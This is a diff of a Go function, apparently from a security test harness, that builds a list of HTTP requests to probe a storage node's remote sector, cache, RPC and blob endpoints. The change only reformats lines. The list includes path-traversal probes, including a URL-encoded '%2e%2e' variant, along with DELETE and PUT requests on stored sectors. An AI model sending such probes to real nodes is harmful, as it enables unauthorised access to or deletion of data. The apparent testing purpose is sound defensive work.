@@ -18,10 +18,12 @@ func (a *attack) bearers() (out []try) {
 	for _, base := range []string{a.Private, a.Worker} {
 		for _, c := range []struct{ method, path string }{
 			{http.MethodDelete, "/remote/unsealed/" + name}, {http.MethodPut, "/remote/unsealed/" + name},
-			{http.MethodGet, "/remote/sealed/" + name}, {http.MethodGet, "/remote/cache/" + name}, {http.MethodGet, "/remote/cache/" + name + "/file/p_aux"},
+			{http.MethodGet, "/remote/sealed/" + name}, {http.MethodGet, "/remote/cache/" + name},
+			{http.MethodGet, "/remote/cache/" + name + "/file/p_aux"},
 			{http.MethodGet, "/remote/update/" + name}, {http.MethodGet, "/remote/update-cache/" + name},
 			{http.MethodGet, "/remote/unsealed/" + name + "0"}, {http.MethodDelete, "/remote/sealed/" + name},
-			{http.MethodGet, "/remote/unsealed/" + name + "/../../sealed/" + name}, {http.MethodGet, "/remote/unsealed/" + name + "/%2e%2e/%2e%2e/sealed/" + name},
+			{http.MethodGet, "/remote/unsealed/" + name + "/../../sealed/" + name},
+			{http.MethodGet, "/remote/unsealed/" + name + "/%2e%2e/%2e%2e/sealed/" + name},
 			{http.MethodGet, "/remote/stat/" + string(a.WorkerPath)}, {http.MethodPost, "/rpc/v1"}, {http.MethodPost, "/rpc/v0"},
 			{http.MethodGet, "/blobs/bafkreihdwdcefgh4dqkjv67uzcmw7ojee6xedzdetojuzjevtenxquvyku"},
 		} {
